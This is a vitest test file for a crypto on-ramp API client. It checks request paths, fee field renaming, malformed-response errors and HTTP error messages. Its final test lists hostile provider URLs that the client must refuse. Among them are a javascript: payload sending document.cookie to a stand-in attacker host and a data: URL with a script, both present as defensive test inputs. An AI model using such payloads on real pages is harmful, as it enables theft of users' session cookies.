/**
 * The on-ramp API client against scripted answers: what each call asks, what it keeps (the provider's
 * fee under its own name, the default providers when the answer has none), each malformed answer
 * refused with the field named, and a 400's own words kept as the message the flow shows.
 * (The real dev cloud: headless/onramp/onRampActors.int.test.ts.)
 */
import { describe, expect, it } from 'vitest';
import { CloudResponseError } from '../../domain/cloudErrors.ts';
import { isPorticoError, MESSAGES } from '../../domain/errors.ts';
import { ONRAMP_DEFAULT_OPTIONS } from '../../domain/onramp/onRampDefaults.ts';
import { onRampFailureText } from '../../domain/onramp/onRampFailure.ts';
import type { PaymentCurrency, PurchaseCurrency } from '../../domain/onramp/onRampTypes.ts';
import { fetchRecording } from '../../test-support/recordingFetch.ts';
import { SDK_TYPE, SDK_VERSION } from '../endpoints.ts';
import { createOnRampApi, type OnRampApi, OnRampApiError, type OnRampUrlRequest } from './onRampApi.ts';

const CHAIN = 'eip155:31337';
const WALLET = '0xf39Fd6e51aad88F6F4ce6aB8827279cffFb92266';

const ETH: PurchaseCurrency = {
  id: 'ETH',
  name: 'Ether',
  symbol: 'ETH',
  networks: [
    { name: 'anvil-31337', display_name: 'Local chain 31337', chain_id: '31337', contract_address: '' },
  ],
};
const USD: PaymentCurrency = {
  id: 'USD',
  payment_method_limits: [
    { id: 'CARD', min: '10.00', max: '7500.00' },
    { id: 'ACH_BANK_ACCOUNT', min: '10.00', max: '25000.00' },
  ],
};
const PROVIDERS = [
  { name: 'coinbase', label: 'Coinbase', feeRange: { min: 1, max: 2 } },
  { name: 'meld', label: 'Meld', feeRange: { min: 1, max: 2 } },
];
const OPTIONS = { paymentCurrencies: [USD], purchaseCurrencies: [ETH], providers: PROVIDERS };

const usd = (amount: string) => ({ amount, currency: 'USD' });
const QUOTE_ANSWER = {
  purchaseAmount: { amount: '0.03137263', currency: 'ETH' },
  paymentSubtotal: usd('97.90'),
  paymentTotal: usd('100.00'),
  networkFee: usd('0.10'),
  coinbaseFee: usd('2.00'),
  quoteId: '3f0c2a4e-8a55-4f6b-9d0e-2b3f1f7a9c11',
};
const QUOTE_INPUT = {
  purchaseCurrency: ETH,
  paymentCurrency: USD,
  amount: '100.00',
  network: 'anvil-31337',
  provider: 'meld',
};
const URL_REQUEST: OnRampUrlRequest = {
  destinationWallets: [{ address: WALLET, blockchains: ['anvil-31337'], assets: ['ETH'] }],
  defaultNetwork: 'anvil-31337',
  partnerUserId: WALLET,
  defaultExperience: 'buy',
  presetFiatAmount: 100,
  quoteId: QUOTE_ANSWER.quoteId,
  provider: 'meld',
  paymentCurrency: 'USD',
};
const PURCHASE = {
  id: 'a1b2',
  metadata: {
    operationType: 'buy',
    hash: `0x${'ab'.repeat(32)}`,
    minedAt: '2025-05-01T10:00:00.000Z',
    sentFrom: 'Meld',
    sentTo: WALLET,
    nonce: 0,
    chain: CHAIN,
    status: 'ONRAMP_TRANSACTION_STATUS_SUCCESS',
  },
  transfers: [],
};

function apiAnswering(status: number, body: unknown) {
  const recorded = fetchRecording(status, typeof body === 'string' ? body : JSON.stringify(body));
  const api = createOnRampApi({ baseUrl: 'http://api.test', projectId: 'p1', fetch: recorded.fetch });
  return { api, requests: recorded.requests };
}

/** Each call with a valid answer, what it must ask, what it must give, and malformed answers. */
const CALLS: {
  name: string;
  run: (api: OnRampApi) => Promise<unknown>;
  method: string;
  path: string;
  query: Record<string, string>;
  body: unknown;
  answer: unknown;
  result: unknown;
  malformed: { answer: unknown; field: string }[];
}[] = [
  {
    name: 'options',
    run: (api) => api.options(),
    method: 'GET',
    path: '/v1/onramp/options',
    query: {},
    body: undefined,
    answer: OPTIONS,
    result: OPTIONS,
    malformed: [
      {
        answer: {
          ...OPTIONS,
          paymentCurrencies: [{ id: 'USD', payment_method_limits: [{ id: 'CARD', min: 10 }] }],
        },
        field: 'paymentCurrencies.0.payment_method_limits.0.min',
      },
      {
        answer: { ...OPTIONS, purchaseCurrencies: [{ ...ETH, networks: [{ name: 'anvil-31337' }] }] },
        field: 'purchaseCurrencies.0.networks.0.display_name',
      },
      { answer: { paymentCurrencies: [USD] }, field: 'purchaseCurrencies' },
    ],
  },
  {
    name: 'quote',
    run: (api) => api.quote(QUOTE_INPUT),
    method: 'POST',
    path: '/v1/onramp/quote',
    query: {},
    // The currencies go as objects, as production's client sends them.
    body: QUOTE_INPUT,
    answer: QUOTE_ANSWER,
    result: {
      purchaseAmount: QUOTE_ANSWER.purchaseAmount,
      paymentSubtotal: QUOTE_ANSWER.paymentSubtotal,
      paymentTotal: QUOTE_ANSWER.paymentTotal,
      networkFee: QUOTE_ANSWER.networkFee,
      providerFee: QUOTE_ANSWER.coinbaseFee,
      quoteId: QUOTE_ANSWER.quoteId,
    },
    malformed: [
      { answer: { ...QUOTE_ANSWER, coinbaseFee: undefined }, field: 'coinbaseFee' },
      {
        answer: { ...QUOTE_ANSWER, purchaseAmount: { amount: '-1', currency: 'ETH' } },
        field: 'purchaseAmount.amount',
      },
      { answer: { ...QUOTE_ANSWER, quoteId: '' }, field: 'quoteId' },
    ],
  },
  {
    name: 'generateUrl',
    run: (api) => api.generateUrl(URL_REQUEST),
    method: 'POST',
    path: '/v1/generators/onrampurl',
    query: {},
    body: URL_REQUEST,
    answer: { url: 'http://127.0.0.1:4000/onramp/provider/o1?provider=meld' },
    result: 'http://127.0.0.1:4000/onramp/provider/o1?provider=meld',
    // A missing or wrong `url` is refused with a text of its own (the tests at the end).
    malformed: [],
  },
  {
    name: 'history',
    run: (api) => api.history({ provider: 'meld', address: WALLET, caipNetworkId: CHAIN }),
    method: 'GET',
    path: `/v1/account/${WALLET}/history`,
    query: { onramp: 'meld', chainId: CHAIN },
    body: undefined,
    answer: { data: [PURCHASE], next: null },
    result: [
      {
        id: 'a1b2',
        metadata: {
          status: PURCHASE.metadata.status,
          hash: PURCHASE.metadata.hash,
          minedAt: PURCHASE.metadata.minedAt,
        },
      },
    ],
    malformed: [
      {
        answer: { data: [{ ...PURCHASE, metadata: { ...PURCHASE.metadata, status: 'confirmed' } }] },
        field: 'data.0.metadata.status',
      },
      {
        answer: { data: [{ ...PURCHASE, metadata: { ...PURCHASE.metadata, minedAt: 'yesterday' } }] },
        field: 'data.0.metadata.minedAt',
      },
    ],
  },
];

describe('on-ramp API client (§7 /v1/onramp/*, /v1/generators/onrampurl, history with onramp)', () => {
  it.each(CALLS)(
    '$name asks its path with the project id and SDK type and version, and keeps the answer',
    async (call) => {
      const { api, requests } = apiAnswering(200, call.answer);
      expect(await call.run(api)).toEqual(call.result);
      expect(requests).toHaveLength(1);
      const [request] = requests;
      expect(request?.method).toBe(call.method);
      expect(request?.url.pathname).toBe(call.path);
      expect(request?.body).toEqual(call.body);
      expect(Object.fromEntries(request?.url.searchParams ?? [])).toEqual({
        ...call.query,
        projectId: 'p1',
        st: SDK_TYPE,
        sv: SDK_VERSION,
      });
    },
  );

  it('options without providers (production’s answer) offer the two default providers (§9)', async () => {
    const { api } = apiAnswering(200, { paymentCurrencies: [USD], purchaseCurrencies: [ETH] });
    const options = await api.options();
    expect(options.providers).toEqual(ONRAMP_DEFAULT_OPTIONS.providers);
    expect(options.providers.map((provider) => provider.name)).toEqual(['coinbase', 'meld']);
    expect(options.purchaseCurrencies).toEqual([ETH]);
  });

  it('a quote names the provider’s fee providerFee, whoever quoted (the API calls it coinbaseFee)', async () => {
    const { api } = apiAnswering(200, { ...QUOTE_ANSWER, coinbaseFee: usd('1.75') });
    const quote = await api.quote(QUOTE_INPUT);
    expect(quote.providerFee).toEqual(usd('1.75'));
    expect(quote).not.toHaveProperty('coinbaseFee');
  });

  const malformed = CALLS.flatMap((call) => call.malformed.map((bad) => ({ ...bad, call })));
  it.each(malformed)(
    '$call.name refuses an answer whose $field is wrong, naming it',
    async ({ call, answer, field }) => {
      const { api } = apiAnswering(200, answer);
      const failure = call.run(api);
      await expect(failure).rejects.toBeInstanceOf(CloudResponseError);
      await expect(failure).rejects.toThrow(`Unexpected response from ${call.path}: ${field} is not valid`);
    },
  );

  it.each(CALLS)('$name refuses a 200 that is not JSON', async (call) => {
    const { api } = apiAnswering(200, '<html>502 Bad Gateway</html>');
    await expect(call.run(api)).rejects.toThrow(`Unexpected response from ${call.path}: body is not valid`);
  });

  it.each(CALLS)(
    '$name: a 400 keeps the server’s words as its message, which the flow shows',
    async (call) => {
      const refusal = 'amount: must be at most 7500.00 USD (the CARD maximum)';
      const { api } = apiAnswering(400, { message: refusal });
      const failure = call.run(api);
      await expect(failure).rejects.toBeInstanceOf(OnRampApiError);
      await expect(failure).rejects.toMatchObject({ message: refusal, status: 400, serverMessage: refusal });
      expect(onRampFailureText(await failure.catch((error: unknown) => error))).toBe(refusal);
    },
  );

  it('a failed quote rejects (the flow, not the client, puts the §4 placeholder quote in its place)', async () => {
    const { api } = apiAnswering(503, { message: 'chain did not answer: timeout' });
    const failure = api.quote(QUOTE_INPUT);
    await expect(failure).rejects.toBeInstanceOf(OnRampApiError);
    await expect(failure).rejects.toThrow(
      'POST /v1/onramp/quote failed with HTTP 503: chain did not answer: timeout',
    );
  });

  it('a 400 without a message says which call failed', async () => {
    const { api } = apiAnswering(400, 'no json');
    await expect(api.options()).rejects.toThrow('GET /v1/onramp/options failed with HTTP 400');
  });

  it.each([
    // The attack: run as the host page in the window the click opened blank (same origin as the host).
    "javascript:fetch('https://evil.example/?' + document.cookie)",
    'data:text/html,<script>alert(1)</script>',
    // Plain http to a host other than the visitor's machine can be rewritten on the way.
    'http://pay.example.com/buy',
    'not a url',
    undefined,
  ])('attack: generateUrl refuses the provider URL %j with a text the visitor can read', async (url) => {
    const { api } = apiAnswering(200, { url });
    const failure = await api.generateUrl(URL_REQUEST).catch((error: unknown) => error);
    expect(isPorticoError(failure, 'unsafePageAddress')).toBe(true);
    expect((failure as Error).cause).toBeInstanceOf(CloudResponseError);
    expect(onRampFailureText(failure)).toBe(MESSAGES.unsafePageAddress);
  });
});
